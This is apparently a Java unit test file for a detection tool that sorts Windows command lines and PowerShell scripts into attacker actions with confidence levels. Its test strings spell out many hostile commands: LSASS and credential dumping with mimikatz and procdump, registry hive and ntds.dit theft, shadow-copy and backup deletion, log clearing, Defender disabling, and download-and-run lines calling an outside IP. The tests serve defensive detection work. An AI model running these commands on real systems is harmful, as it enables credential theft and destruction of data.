package org.wachtpost.inspect.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wachtpost.inspect.model.Confidence;

/** Command lines and scripts as public write-ups have them. */
class AfterwardsTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '!',
      value = {
        "rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 684 C:\\windows\\temp\\cache.tmp full"
            + "!passwords dumped or tool run!HIGH",
        "\"rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, #24 684 c:\\x.tmp full"
            + "!passwords dumped or tool run!HIGH",
        "rundll32 C:\\programdata\\a.dll,MiniDump 684 c:\\x.tmp full"
            + "!passwords dumped or tool run!HIGH",
        "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass"
            + "!passwords dumped or tool run!HIGH",
        "p.exe -accepteula -ma lsass c:\\root\\l!passwords dumped or tool run!HIGH",
        "a.exe \"sekurlsa::logonpasswords\" exit!passwords dumped or tool run!HIGH",
        "procdump -ma 4711!passwords dumped or tool run!LOW",
        "svc.exe -accepteula -ma 624 c:\\perflogs\\a!passwords dumped or tool run!MEDIUM",
        "svc.exe /ma 624 /accepteula!passwords dumped or tool run!MEDIUM",
        "c:\\t\\x64.exe -ma 624 c:\\windows\\temp\\a.dmp!passwords dumped or tool run!MEDIUM",
        "reg  save hklm\\sam c:\\temp\\s!passwords copied from the registry!HIGH",
        "reg.exe save HKLM\\SECURITY c:\\temp\\s!passwords copied from the registry!HIGH",
        "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q"
            + "!the domain's password store reached for!MEDIUM",
        "c:\\programdata\\7z.exe a -tzip c:\\programdata\\it.zip d:\\mail\\ceo.pst"
            + "!mail or dumps packed!MEDIUM",
        "makecab c:\\windows\\temp\\a.pst c:\\inetpub\\wwwroot\\a.png!mail or dumps packed!MEDIUM",
        "cmd /c cd /d \"c:\\x\"&whoami&echo [S]&cd&echo [E]!command of a web shell's client!HIGH",
        "plink.exe -P 443 -R 49800:127.0.0.1:3389 r@a!remote desktop led out through a tunnel!HIGH",
        "a.exe -N -R 127.0.0.1:49800:127.0.0.1:3389 r@a"
            + "!remote desktop led out through a tunnel!HIGH",
        "wmic shadowcopy delete!recovery made impossible!MEDIUM",
        "vssadmin delete shadows /all /quiet!recovery made impossible!MEDIUM",
        "wbadmin delete systemstatebackup -keepVersions:0!recovery made impossible!MEDIUM",
        "wbadmin delete systemstatebackup -keepVersions:3!old backups or shadow copies deleted!LOW",
        "vssadmin delete shadows /for=C: /oldest!old backups or shadow copies deleted!LOW",
        "bcdedit /set {default} recoveryenabled No!recovery made impossible!MEDIUM",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true"
            + "!Defender weakened from a command line!LOW",
        "net user DefaultAccount /active:yes!way in made from a command line!LOW",
        "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit c:\\x"
            + "!the domain's password store reached for!MEDIUM",
        "esentutl /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\x"
            + "!the domain's password store reached for!MEDIUM",
        "esentutl /g c:\\windows\\ntds\\ntds.dit!the domain's password store reached for!LOW",
        "powershell Add-MpPreference -ExclusionPath C:\\Windows\\NTDS\\ntds.dit"
            + "!the domain's password store reached for!LOW",
        "\"C:\\Program Files\\7-Zip\\7z.exe\" a d:\\left\\ann.7z d:\\left\\ann.pst"
            + "!mail or dumps packed!LOW",
        "7z a d:\\case.7z C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\a\\w3wp.dmp"
            + "!mail or dumps packed!LOW",
        "net group \"Exchange Organization administrators\" administrator /del /domain"
            + "!somebody taken out of an administrators' group!MEDIUM",
        "appcmd.exe set config -section:system.webServer/httpLogging /dontLog:true"
            + "!web server's logging switched off from a command line!MEDIUM",
        "appcmd install module /name:x /image:c:\\windows\\temp\\x.dll"
            + "!IIS module added from a command line!MEDIUM",
        "powershell -c New-MailboxExportRequest -Mailbox a -FilePath"
            + " \\\\localhost\\c$\\ProgramData\\a.zip!mailbox exported from a command line!MEDIUM",
        "powershell -c New-MailboxExportRequest -Mailbox a -FilePath \\\\nas\\left\\a.pst"
            + "!mailbox exported from a command line!LOW",
        "certutil -urlcache -split -f http://203.0.113.9/a.exe c:\\programdata\\a.exe"
            + "!something fetched from a command line!MEDIUM",
        "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')"
            + "!something fetched from a command line!LOW",
        "net localgroup Administrators left /delete"
            + "!somebody taken out of an administrators' group!LOW",
        "appcmd install module /name:a /image:\"C:\\Program Files\\watch\\agent.dll\""
            + "!IIS module added from a command line!LOW",
        "powershell iwr -OutFile c:\\windows\\temp\\a.msi https://agents.example.test/a.msi"
            + "!something fetched from a command line!LOW",
        "powershell iwr http://10.0.0.9/a.msi -OutFile c:\\programdata\\a.msi"
            + "!something fetched from a command line!LOW",
        "C:\\ProgramData\\watch\\bin\\curl.exe -s http://203.0.113.9/state"
            + "!something fetched from a command line!LOW",
        "curl -o c:\\perflogs\\a http://203.0.113.9/a!something fetched from a command line!MEDIUM",
        "wevtutil cl Security!event log cleared from a command line!LOW",
        "cmd /c del C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"
            + "!logs of the web server or of Exchange deleted!LOW",
        "nltest /domain_trusts!the domain explored!LOW",
        "net group \"Exchange Domain Servers\" /domain!the domain explored!LOW"
      })
  void whatACommandDoesIsToldWhateverItIsCalled(String command, String title, Confidence sure) {
    assertThat(Commands.deeds(command, ""))
        .singleElement()
        .matches(deed -> deed.title().equals(title) && deed.confidence() == sure);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rundll32 shell32.dll,Control_RunDLL",
        "reg save hklm\\software\\example c:\\x",
        "reg query hklm\\sam",
        "7z.exe a c:\\backup\\logs.7z c:\\inetpub\\logs",
        "cmd /c dir c:\\root\\lsass*.dmp",
        "net localgroup users",
        "vssadmin list shadows",
        "bcdedit /enum",
        "echo [S] starts",
        "powershell Get-MpPreference",
        "nltest /sc_query:example.test",
        "certutil -urlcache crl delete",
        "appcmd install module /name:a /image:%windir%\\System32\\inetsrv\\a.dll",
        "wevtutil qe Security",
        "del c:\\logs\\old.log",
        "dir d:\\ann.pst & 7z.exe a c:\\logs.7z c:\\logs",
        "7z.exe a c:\\logs.7z c:\\logs\nd:\\ann.pst"
      })
  void whatAdministratorsDoIsNoDeed(String command) {
    assertThat(Commands.deeds(command, "")).isEmpty();
  }

  /** It was HIGH: a search for a word is not its use. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "findstr /i mimikatz C:\\logs\\av.log",
        "sc query mimikatz",
        "cmd /c tasklist | findstr /i \"mimikatz nanodump\"",
        "C:\\Windows\\System32\\cmd.exe /q /c \"tasklist | findstr lsass.dmp\"",
        "tasklist /fi \"imagename eq mimikatz.exe\"",
        "\"C:\\Windows\\system32\\find.exe\" \"lsass.dmp\" listing.txt",
        "where /r C:\\ mimikatz.exe",
        "cmd /c dir /s /b C:\\*mimikatz* > found.txt",
        "powershell -NoProfile -c \"Get-ChildItem C:\\ -Recurse -Filter *mimikatz*\"",
        "yara64.exe -r mimikatz.yar C:\\",
        "findstr \"x & mimikatz\" a.log"
      })
  void aSearchForAToolIsNotItsUse(String command) {
    assertThat(Commands.deeds(command, ""))
        .singleElement()
        .matches(deed -> deed.title().contains("looked for by name"))
        .matches(deed -> deed.confidence() == Confidence.LOW);
  }

  /** Whoever puts a search beside what he runs, or calls it one, is not believed. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "findstr x y & mimikatz.exe",
        "cmd /c \"findstr x y & mimikatz.exe\"",
        "findstr mimikatz a.bat | cmd",
        "cmd /c \"findstr mimikatz a.bat | powershell -\"",
        "findstr mimikatz a.bat | cmd.exe /q",
        "findstr mimikatz a.bat | powershell -nop -c -",
        "findstr mimikatz a.bat | powershell.exe -ep bypass",
        "C:\\Windows\\Temp\\findstr.exe sekurlsa::logonpasswords",
        "findstr ^\" & mimikatz.exe \"",
        "findstr \"x & mimikatz.exe",
        "C:\\temp\\findstr.exe sekurlsa::logonpasswords",
        "findstr /v xyz \\\\a\\b\\mimikatz.txt > c:\\t\\a.exe",
        "powershell -c \"gci $(Invoke-Mimikatz)\"",
        "powershell -c \"gci c:\\ | % { Invoke-Mimikatz }\"",
        "sc create mimikatz binpath= c:\\t\\a.exe",
        "cmd /c cmd /c cmd /c cmd /c cmd /c mimikatz"
      })
  void whatIsRunBesideASearchIsUse(String command) {
    assertThat(Commands.deeds(command, ""))
        .singleElement()
        .matches(deed -> deed.confidence() == Confidence.HIGH);
  }

  @Test
  void aToolThatHasTheNameOfASearchIsKnownByItsPlace() {
    String command = "findstr \"sekurlsa::logonpasswords\" exit";
    assertThat(
            Commands.deeds(command, "C:\\Windows\\System32\\findstr.exe").getFirst().confidence())
        .isEqualTo(Confidence.LOW);
    String yara = "C:\\tools\\yara64.exe";
    assertThat(Commands.deeds("yara64 -r mimikatz.yar C:\\", yara).getFirst().confidence())
        .isEqualTo(Confidence.LOW);
    // Procdump under the scanner's name: no scanner takes such options.
    assertThat(Commands.deeds("yara64 -ma lsass c:\\t\\l", yara).getFirst().confidence())
        .isEqualTo(Confidence.HIGH);
    assertThat(Commands.deeds("yara64 -accepteula -ma 624 l", yara).getFirst().confidence())
        .isEqualTo(Confidence.MEDIUM);
    assertThat(Commands.deeds("yara64 -m rules.yar lsass.dmp", yara).getFirst().confidence())
        .isEqualTo(Confidence.LOW);
    assertThat(Commands.deeds("yara64 sekurlsa::logonpasswords", yara).getFirst().confidence())
        .isEqualTo(Confidence.HIGH);
    for (String folder : new String[] {"Users\\Public", "Windows\\Temp", "x\\Windows\\System32"}) {
      assertThat(Commands.deeds(command, "C:\\" + folder + "\\findstr.exe").getFirst().confidence())
          .isEqualTo(Confidence.HIGH);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a'); Invoke-Mimikatz",
        "Invoke-Mimikatz -DumpCreds; 'a' -match 'b' # webshell",
        "'x' | Select-String 'y'; C:\\t\\mimikatz.exe",
        "$t = 'Invoke-Mimikatz'; & $t",
        "function Invoke-Mimikatz { if ($x -imatch '^\\s*$') {} }",
        "Get-Process lsass | Out-Minidump -DumpFilePath c:\\t",
        "Write-Output \"$(Invoke-Mimikatz)\" | findstr a",
        "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump $id c:\\t\\x.dmp full # findstr",
        "rundll32.exe \"C:\\Windows\\System32\\comsvcs.dll\" MiniDump $id c:\\t\\x.dmp full",
        "C:\\t\\procdump64.exe -accepteula -ma \"lsass.exe\" c:\\t\\x",
        "cmd.exe /c \"procdump -ma lsass.exe c:\\t\\x\"",
        "$x = powershell -Command \"Invoke-Mimikatz\"",
        "wmic process call create \"procdump -ma lsass.exe\"",
        "echo `'; Invoke-Mimikatz; echo `'",
        "echo \u2018'; Invoke-Mimikatz; echo \u2018'",
        "$a = @'  \n'\n'@\nInvoke-Mimikatz\n$b = @'  \n'\n'@"
      })
  void whoUsesAToolIsNotTakenForWhoLooksForIt(String script) {
    assertThat(Scripts.judge(script, true))
        .isNotNull()
        .matches(one -> one.confidence() == Confidence.HIGH);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$f | Select-String 'mimikatz','chopper'",
        "$words = @('procdump', 'lsass.exe', 'mimikatz')\nGet-ChildItem $p | findstr $words",
        "# looks for mimikatz\nGet-ChildItem -Recurse -Include mimikatz.exe",
        "$x = @'\nInvoke-Mimikatz\n'@\nWrite-Host 'done'"
      })
  void whoLooksForAToolIsNotTakenForWhoUsesIt(String script) {
    assertThat(Scripts.judge(script, true))
        .isNotNull()
        .matches(one -> one.confidence() == Confidence.LOW);
  }

  /** Whoever adds a search to his script is not believed. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "$f | Select-String 'mimikatz'; IEX (irm http://x.test/a)",
        "$n = \"Invoke-Mimi\" + \"katz mimikatz\"; & \"$n\" | findstr a",
        "'mimikatz' -match 'x'; [Reflection.Assembly]::Load($b)"
      })
  void aSearchBesideWhatIsRunHidesNothing(String script) {
    assertThat(Scripts.judge(script, true))
        .isNotNull()
        .matches(one -> one.confidence() == Confidence.MEDIUM);
  }

  /** A later part of a script may begin within a text: what seems text is run, and the reverse. */
  @Test
  void aLaterPartIsNotReadAsIfItWereTheFirst() {
    String part = "a'; IEX 'mimikatz' | Select-String x '";
    assertThat(Scripts.judge(part, false))
        .isNotNull()
        .matches(one -> one.confidence() != Confidence.LOW);
    assertThat(Scripts.judge("$a = 'mimikatz'\n$b | Select-String $a", false))
        .isNotNull()
        .matches(one -> one.confidence() == Confidence.LOW);
  }

  @Test
  void aScriptThatNamesNoToolIsNotJudged() {
    assertThat(Scripts.judge(".\\procdump.exe -ma w3wp.exe", true)).isNull();
    assertThat(Scripts.judge("", true)).isNull();
  }

  @Test
  void longTextsAreLookedThroughOnce() {
    assertTimeoutPreemptively(
        Duration.ofSeconds(30),
        () -> {
          assertThat(Commands.deeds("comsvcs procdump rundll32 ".repeat(100_000), "")).hasSize(1);
          String packs = "x.pst" + "7z ".repeat(100_000);
          for (int i = 0; i < 1_000; i++) {
            assertThat(Commands.deeds(packs, "")).isEmpty();
          }
          assertThat(Commands.deeds("iwr http: \\programdata\\ ".repeat(100_000), "")).hasSize(1);
          String tangled = "cmd /c \"findstr mimikatz x | ";
          assertThat(Commands.deeds(tangled.repeat(30_000), "")).hasSize(1);
          assertThat(Scripts.judge("'mimikatz ".repeat(100_000) + "\"$(<# @'".repeat(9_000), true))
              .isNotNull();
        });
  }
}
